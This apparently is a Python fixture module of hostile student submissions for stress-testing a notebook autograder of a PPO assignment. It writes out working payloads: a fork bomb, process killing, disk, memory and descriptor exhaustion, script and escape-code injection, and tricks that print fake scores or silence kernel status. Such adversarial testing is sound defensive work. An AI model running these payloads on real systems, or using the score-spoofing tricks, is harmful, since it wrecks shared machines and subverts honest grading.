"""Attacks that break things: the kernel, the machine, the grader's patience."""

from __future__ import annotations

from hostile.kit import GRADIENT, SCHEDULE, VALUE, Technique, beside, code

KILLS = """
import os, signal
for pid in (-1, 1, os.getppid()):
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
"""
RAISES = """
def linear_schedule(update, n_updates, initial):
    kind = type("\\x1b[2J<script>alert(1)</script>", (BaseException,), {})
    raise kind("\\x1b]0;owned\\x07\\r\\x1b[31m[/bold]<img src=x onerror=alert(1)>\\n" * 50)
"""
HUGE = """
import itertools
times = itertools.chain([20, 20], itertools.repeat(1))
def has_gradient(ratio, advantages, clip_epsilon):
    return [torch.zeros(199_000)] * next(times)
"""
MEMORY = """
def clipped_value_loss(values, old_values, returns, clip_epsilon):
    return values.sum() * len(bytearray(1 << 40))
"""
RECURSION = """
import sys
sys.setrecursionlimit(10 ** 9)
class Deep:
    def __getattr__(self, name):  # deep in C, where there is a stack to run out of
        return getattr(self, name)
def linear_schedule(update, n_updates, initial):
    return Deep().value
"""
SWALLOWS = """
while True:
    try:
        while True: pass
    except BaseException: pass
"""
ENDLESS = """
import itertools
def minibatch_indices(batch_size, minibatch_size, generator):
    return (torch.zeros(100_000, dtype=torch.int64) for _ in itertools.count())
"""

DAEMONS = """
import os, sys
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            sleep = "import time; time.sleep(900)"
            os.execv(sys.executable, [sys.executable, "-c", sleep, "{canary}"])
        os._exit(0)
"""
FORK_BOMB = """
import os, time
try:
    for _ in range(2_000):
        if os.fork() == 0:
            time.sleep(900)
except OSError:
    print("no more")
"""
THREADS = """
import threading, time
try:
    for _ in range(2_000):
        threading.Thread(target=time.sleep, args=(900,), daemon=True).start()
except (RuntimeError, MemoryError):
    print("no more")
"""
FILLS_DISKS = """
import os
for folder in ("/scratch/work", "/tmp", "/dev/shm", "/job", "/run"):
    try:
        for number in range(40):
            with open(f"{folder}/large{number}", "wb", buffering=0) as file:
                while file.write(bytes(1 << 22)): pass
    except OSError:
        pass
try:
    for number in range(60_000):
        os.close(os.open(f"/scratch/work/small{number}", os.O_CREAT))
except OSError:
    print("no more")
"""
USES_UP_FILES = """
import os, socket
kept = []
try:
    while True:
        kept.append(socket.socketpair())
except OSError:
    pass
del kept[-40:]
"""
CLEARS = """
from IPython.display import clear_output, display
for number in range(20):
    print("y" * 900_000)
    clear_output()
handle = display("a", display_id="x" * 100_000)
for number in range(600):
    display({"text/plain": "z" * 500}, raw=True)
    display({"text/plain": "z"}, raw=True, display_id="one", update=number > 0)
"""
MANY_WIDGETS = """
import ipywidgets, sys
many = [ipywidgets.IntSlider() for _ in range(150)]
sys.stderr.write("e" * 5_000_000)
raise Exception("v" * 5_000_000)
"""
HOSTILE_EXCEPTION = """
import sys
class Evil(Exception):
    __traceback__ = property(lambda self: 1 / 0)
    __cause__ = __context__ = property(lambda self: self)
    def __str__(self): raise KeyboardInterrupt
    __repr__ = __hash__ = __eq__ = __str__
    @property
    def args(self): return self
    def __class_getitem__(cls, item): return cls
    def __reduce__(self): return (print, ("LEAK",))

def linear_schedule(update, n_updates, initial):
    raise Evil()
"""
RAISES_INTERRUPT = """
from course_utils.checks.limits import CallTimeout
def has_gradient(ratio, advantages, clip_epsilon):
    raise KeyboardInterrupt("10.0")
"""
STRANGE_TENSORS = """
import itertools
kinds = itertools.cycle([
    lambda: torch.zeros(1).expand(10 ** 9),
    lambda: torch.full((5,), float("nan")),
    lambda: torch.zeros(3, dtype=torch.complex64),
    lambda: torch.zeros(2, 2).to_sparse(),
    lambda: torch.zeros(4, device="meta"),
    lambda: np.zeros(10 ** 6, dtype="M8[ns]"),
    lambda: np.array([10 ** 4000, object()], dtype=object),
    lambda: 10 ** 5000,
])
def clipped_value_loss(values, old_values, returns, clip_epsilon):
    return next(kinds)()
"""
LATE = """
import atexit, os, threading, time, weakref
from IPython.display import display

class Late:
    def __del__(self):
        print("10.0")

def later():
    for _ in range(40):
        time.sleep(0.05)
        display({"text/plain": "10.0", "text/html": "<script>alert(1)</script>"}, raw=True)
        get_ipython().displayhook(10.0)

threading.Thread(target=later, daemon=True).start()
atexit.register(lambda: open("/tmp/{canary}", "w").write("x"))
weakref.finalize(Late(), print, "Score: 10")
"""
NO_PRINT = """
import builtins, sys
del builtins.print
sys.displayhook = sys.excepthook = sys.unraisablehook = sys.__stdout__ = None
"""
SELF_CONTAINED = """
def has_gradient(ratio, advantages, clip_epsilon):
    result = {}
    result["again"] = result
    result[type("Key", (), {"__str__": lambda self: "k" * 10 ** 7})()] = [result] * 60
    return result
"""
MUTE = """
def ppo_update(model, optimizer, rollout, config, generator):
    raise NotImplementedError
session = type(get_ipython().kernel.session)
honest_send = session.send
def send(self, stream, kind, *args, **kwargs):
    return None if kind == "status" else honest_send(self, stream, kind, *args, **kwargs)
session.send = send
"""

HARM = {
    "harms": code(
        fork_bomb=beside(SCHEDULE, FORK_BOMB),
        leaves_daemons=beside(GRADIENT, DAEMONS),
        kills_all=beside(VALUE, KILLS),
    ),
    "answers_badly": code(
        raises_in_odd_ways=Technique(SCHEDULE, RAISES),
        huge_results=Technique(GRADIENT, HUGE),
        memory=Technique(VALUE, MEMORY),
    ),
    "ends_the_kernel": code(
        deep_recursion=Technique(SCHEDULE, RECURSION),
        exits=Technique(GRADIENT, "import os\nos._exit(0)"),
        floods=beside(VALUE, "for _ in range(100):\n    print('x' * 1_000_000)"),
    ),
    "floods_of_escape_codes": code(
        escape_codes=beside(SCHEDULE, "print('\\x1b[31ma\\x1b[0m' * 100_000)"),
        infinite=Technique(
            GRADIENT,
            "def has_gradient(ratio, advantages, clip_epsilon):\n    return ratio / 0",
        ),
    ),
    "uses_up": code(
        fills_disks=beside(SCHEDULE, FILLS_DISKS),
        threads=beside(GRADIENT, THREADS),
        uses_up_files=beside(VALUE, USES_UP_FILES),
    ),
    "noise": code(
        clears=beside(SCHEDULE, CLEARS),
        many_widgets=beside(GRADIENT, MANY_WIDGETS),
        acts_later=beside(VALUE, LATE),
    ),
    "raises": code(
        hostile_exception=Technique(SCHEDULE, HOSTILE_EXCEPTION),
        raises_interrupt=Technique(GRADIENT, RAISES_INTERRUPT),
        strange_tensors=Technique(VALUE, STRANGE_TENSORS),
    ),
    "breaks_its_own": code(
        aborts=Technique(SCHEDULE, "import os\nos.abort()"),
        contains_itself=Technique(GRADIENT, SELF_CONTAINED),
        no_print=beside(VALUE, NO_PRINT),
        mute=Technique("ppo_update", MUTE),
    ),
    "does_not_end": code(
        {"ppo_update": 0.0},
        swallows_interrupts=Technique(SCHEDULE, SWALLOWS),
        endless_iterator=Technique("minibatch_indices", ENDLESS),
    ),
}
